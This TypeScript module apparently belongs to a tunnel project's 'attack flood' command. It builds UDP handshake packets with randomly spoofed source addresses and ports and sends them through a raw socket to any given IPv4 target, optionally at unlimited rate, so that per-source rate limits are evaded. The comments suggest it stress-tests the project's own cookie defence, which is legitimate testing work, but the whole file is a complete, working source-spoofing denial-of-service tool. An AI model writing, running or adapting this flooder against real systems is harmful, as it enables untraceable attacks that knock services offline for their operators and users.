/**
 * `pytunnel attack flood`: spoofed-source handshake initiations through a raw
 * socket. Each packet comes from a random address in the spoof range and a
 * random port, so per-source rate limits never apply and only the stateless
 * cookie protects the server's DH work.
 *
 * @module
 */

import { RawIPv4Socket } from "./rawsocket.ts";
import { buildIPv4Udp } from "./rawpacket.ts";
import { mask, parseIPv4 } from "../ipaddr.ts";

/** What a flood run did. */
export interface FloodResult {
  sent: number;
  retries: number;
  seconds: number;
  packetsPerSecond: number;
}

/** Options of {@link flood}. */
export interface FloodOptions {
  target: { hostname: string; port: number };
  count: number;
  spoof: { address: number; prefix: number };
  /** Builds one initiation payload (fresh randomness each call). */
  payload: () => Uint8Array;
  /** Packets per second; 0 or absent means as fast as the kernel takes them. */
  rate?: number;
  signal?: AbortSignal;
}

/** Sends `count` spoofed datagrams to the target. Needs root or CAP_NET_RAW. */
export async function flood(options: FloodOptions): Promise<FloodResult> {
  const dst = parseIPv4(options.target.hostname);
  if (dst === null) {
    throw new TypeError(`flood needs an IPv4 target, got ${options.target.hostname}`);
  }
  const base = options.spoof.address & mask(options.spoof.prefix);
  const hosts = 2 ** (32 - options.spoof.prefix) - 2;
  const sock = RawIPv4Socket.open();
  const rand = new Uint32Array(256);
  let ri = rand.length;
  const next = () => {
    if (ri === rand.length) {
      crypto.getRandomValues(rand);
      ri = 0;
    }
    return rand[ri++]!;
  };
  const started = performance.now();
  let sent = 0, retries = 0;
  try {
    while (sent < options.count) {
      if (options.signal?.aborted) break;
      const src = (base + 1 + (next() % hosts)) >>> 0;
      const pkt = buildIPv4Udp({
        src,
        dst,
        srcPort: 1024 + (next() % 64512),
        dstPort: options.target.port,
        id: next() & 0xffff,
      }, options.payload());
      if (!sock.send(pkt)) {
        retries++;
        await new Promise((r) => setTimeout(r, 1));
        continue;
      }
      sent++;
      if (options.rate && options.rate > 0) {
        const due = started + (sent / options.rate) * 1000;
        const wait = due - performance.now();
        if (wait > 1) await new Promise((r) => setTimeout(r, wait));
      } else if (sent % 1000 === 0) {
        // Yield now and then so signals and timers still run.
        await new Promise((r) => setTimeout(r, 0));
      }
    }
  } finally {
    sock.close();
  }
  const seconds = (performance.now() - started) / 1000;
  return { sent, retries, seconds, packetsPerSecond: Math.round(sent / Math.max(seconds, 1e-6)) };
}
